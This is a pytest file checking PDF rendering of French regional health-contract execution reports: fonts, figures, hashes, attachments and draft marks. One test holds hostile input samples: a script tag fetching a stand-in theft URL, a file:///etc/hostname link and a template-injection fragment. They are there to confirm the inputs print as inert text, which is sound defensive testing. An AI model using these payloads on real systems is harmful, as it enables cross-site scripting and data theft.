"""The documents themselves, made by the real engine and judged by the real validators."""

from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine

from core.canonical import sha256_hex
from core.tabular.reading import read_book
from reports.content import FundingContent, ReportContent, Tally
from reports.exports import report_ods
from reports.rendering import (
    Frame,
    FrameKind,
    render_assembly_pdf,
    render_report_html,
    render_report_pdf,
)
from reports.rendering.frame import WrongHash
from tests import pdf_checks
from tests.reports import sample
from tests.reports.strained import hostile, strained

OUR_FONTS = {"Source-Sans-3", "Source-Sans-3-Italic", "Source-Sans-3-Semi-Bold", "Source-Serif-4-Semi-Bold"}
NBSP = "\u00a0"


@pytest.fixture(scope="module")
def papers(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every kind of document, made once."""
    folder = tmp_path_factory.mktemp("papers")
    content, alsace = sample.bas_rhin(), sample.alsace()
    made = {
        "draft": render_report_pdf(content, frame=sample.draft(content)),
        "agreed": render_report_pdf(content, frame=sample.agreed(content)),
        "strained": render_report_pdf(strained(), frame=sample.submitted(strained())),
        "hostile": render_report_pdf(hostile(), frame=sample.draft(hostile())),
        "assembly": render_assembly_pdf(alsace, frame=sample.before_assembly(alsace)),
    }
    for name, pdf in made.items():
        (folder / f"{name}.pdf").write_bytes(pdf)
    return {name: folder / f"{name}.pdf" for name in made}


@pytest.mark.parametrize("name", ["draft", "agreed", "strained", "hostile", "assembly"])
def test_every_document_is_archivable_accessible_and_sound(papers: dict[str, Path], name: str) -> None:
    assert pdf_checks.faults(papers[name]) == []


@pytest.mark.parametrize("name", ["draft", "agreed", "strained", "hostile", "assembly"])
def test_every_document_uses_our_fonts_alone(papers: dict[str, Path], name: str) -> None:
    used = pdf_checks.fonts(papers[name])

    assert {font for font, _ in used} <= OUR_FONTS
    assert all(is_embedded for _, is_embedded in used)


def test_the_report_prints_the_figures_of_the_bas_rhin(papers: dict[str, Path]) -> None:
    text = pdf_checks.text_of(papers["agreed"])

    for figure in ["3 031 261 €", "742 500 €", "713 524 €", "12,5 %", "1,3 %", "5 078", "3 244", "+56,5 %"]:
        assert figure in text


def test_numbers_are_grouped_by_no_break_spaces() -> None:
    content = sample.bas_rhin()

    html = render_report_html(content, frame=sample.agreed(content))

    assert f"3{NBSP}031{NBSP}261{NBSP}€" in html
    assert "\u202f" not in html


def test_the_report_to_the_assembly_presents_both_territories_and_annexes_their_reports(
    papers: dict[str, Path],
) -> None:
    text = pdf_checks.text_of(papers["assembly"])
    letter = text.split("Annexe 1 ·")[0]

    assert all(figure in letter for figure in ["1,3 %", "12,5 %", "3 244", "5 078", "+56,5 %", "35"])
    assert "pour le territoire du Bas-Rhin, 3 031 261 €, dont 742 500 €" in text
    assert "pour le territoire du Haut-Rhin, 1 991 891 €, dont 550 360 €" in text
    assert "713 524 € pour le territoire du Bas-Rhin et 464 300 € pour le territoire du Haut-Rhin" in text
    assert "Annexe 1 · Rapport d’exécution 2024 · Bas-Rhin · contrat 67-2020" in text
    assert "Annexe 2 · Rapport d’exécution 2024 · Haut-Rhin · contrat 68-2020" in text


def test_the_attached_data_are_those_that_were_hashed(papers: dict[str, Path]) -> None:
    content = sample.bas_rhin()
    frame = sample.agreed(content)

    attached = pdf_checks.attachments(papers["agreed"])
    with time_machine.travel("2031-05-04 10:00:00+00:00"):
        on_another_day = report_ods(content)

    assert attached == {
        "rapport-67-2020-2024.json": frame.canonical,
        "rapport-67-2020-2024.csv": frame.csv,
        "rapport-67-2020-2024.ods": on_another_day,
    }
    sheet = read_book(on_another_day, "rapport.ods").sheets[0]
    assert len(sheet.values) == frame.csv.decode("utf-8-sig").split("\r\n\r\n")[0].count("\r\n") + 1
    assert sha256_hex(attached["rapport-67-2020-2024.json"]) == frame.sha256
    assert set(pdf_checks.relationships(papers["agreed"]).values()) == {"/Data"}


def test_the_assembly_carries_the_data_of_every_annex(papers: dict[str, Path]) -> None:
    names = set(pdf_checks.attachments(papers["assembly"]))

    assert names == {"assemblee-2024.json"} | {
        f"rapport-{code}-2020-2024.{kind}" for code in ("67", "68") for kind in ("json", "csv", "ods")
    }


def test_the_same_content_and_frame_give_the_same_bytes(papers: dict[str, Path]) -> None:
    content = sample.bas_rhin()

    again = render_report_pdf(content, frame=sample.agreed(content))

    assert again == papers["agreed"].read_bytes()


def test_every_page_of_a_draft_says_so_and_no_page_of_an_edition(papers: dict[str, Path]) -> None:
    pages = range(1, pdf_checks.page_count(papers["draft"]) + 1)

    assert all("PROJET" in pdf_checks.text_of(papers["draft"], rank, rank) for rank in pages)
    assert "PROJET" not in pdf_checks.text_of(papers["agreed"])
    assert pdf_checks.title(papers["draft"].read_bytes()).startswith("PROJET – Rapport d’exécution 2024")


def test_every_page_bears_the_edition_its_short_hash_and_its_number(papers: dict[str, Path]) -> None:
    frame = sample.agreed(sample.bas_rhin())
    last = pdf_checks.page_count(papers["agreed"])

    for rank in range(2, last + 1):
        text = pdf_checks.text_of(papers["agreed"], rank, rank)
        assert f"Édition n° 2 · empreinte {frame.sha256[:4]} {frame.sha256[4:8]}" in text
        assert f"{rank} sur {last}" in text


def test_an_agreed_report_prints_each_decision_and_its_reservations(papers: dict[str, Path]) -> None:
    text = pdf_checks.text_of(papers["agreed"])

    assert text.count("Visa donné") == 3
    # In the table the name of a party may be read across its decision.
    assert "Visa donné avec réserves" in text
    assert "Signataire, ARS Grand Est, le 20 juin 2025 à 17 h 40" in text
    assert "L’indicateur 1.1 est à confirmer par le SNDS." in text


def test_fictitious_data_say_so_on_the_cover_and_on_every_page(tmp_path: Path) -> None:
    content = _fictitious()
    path = tmp_path / "fictif.pdf"

    path.write_bytes(render_report_pdf(content, frame=sample.submitted(content)))

    pages = range(1, pdf_checks.page_count(path) + 1)
    assert "Ce document est une démonstration" in pdf_checks.text_of(path, 1, 1)
    assert all("Données fictives" in pdf_checks.text_of(path, rank, rank) for rank in pages)


def test_twenty_six_objectives_hold_in_a_document_one_can_read(papers: dict[str, Path]) -> None:
    assert pdf_checks.page_count(papers["strained"]) <= 36


def test_hostile_text_is_printed_as_it_was_typed(papers: dict[str, Path]) -> None:
    text = pdf_checks.text_of(papers["hostile"])

    assert '<script>fetch("https://exemple.invalid/vol")</script>' in text
    assert '<link rel="attachment" href="file:///etc/hostname">' in text
    assert "{{ frame }} {% include" in text
    assert "envers" in text
    assert "\u202e" not in text
    assert set(pdf_checks.attachments(papers["hostile"])) == {
        "projet-67-2020-2024.json",
        "projet-67-2020-2024.csv",
        "projet-67-2020-2024.ods",
    }


def test_a_report_just_begun_can_be_printed(tmp_path: Path) -> None:
    path = tmp_path / "vide.pdf"

    path.write_bytes(render_report_pdf(_just_begun(), frame=sample.draft(_just_begun())))

    text = pdf_checks.text_of(path)
    assert pdf_checks.faults(path) == []
    assert "Aucune ligne de financement n’est renseignée pour 2024." in text
    assert "Résumé : à compléter." in text
    assert "Aucune action n’est inscrite au contrat." in text


def test_a_hash_that_is_not_the_contents_is_never_printed() -> None:
    content = sample.bas_rhin()
    frame = replace(sample.submitted(content), sha256="0" * 64)

    with pytest.raises(WrongHash):
        render_report_pdf(content, frame=frame)


def test_an_annex_whose_frame_is_unknown_is_printed_as_a_draft(tmp_path: Path) -> None:
    content = replace(sample.alsace(), annexes=[sample.bas_rhin()])
    frame = Frame.read(
        kind=FrameKind.ASSEMBLY, canonical=sample.before_assembly(content).canonical.decode(), data={}
    )
    path = tmp_path / "assemblee.pdf"

    path.write_bytes(render_assembly_pdf(content, frame=frame))

    assert "PROJET" in pdf_checks.text_of(path)
    assert "projet-67-2020-2024.json" in pdf_checks.attachments(path)


def _fictitious() -> ReportContent:
    base = sample.bas_rhin()
    return replace(base, contract=replace(base.contract, is_fictitious=True))


def _just_begun() -> ReportContent:
    base = sample.bas_rhin()
    zero = Decimal(0)
    return replace(
        base,
        contract=replace(base.contract, texts=[], amendments=[], provenance=""),
        deadline=None,
        summary="",
        context="",
        outlook="",
        tally=Tally(0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0),
        funding=FundingContent([], [], zero, zero, zero, None, zero, ""),
        engagements=[],
        actions=[],
    )
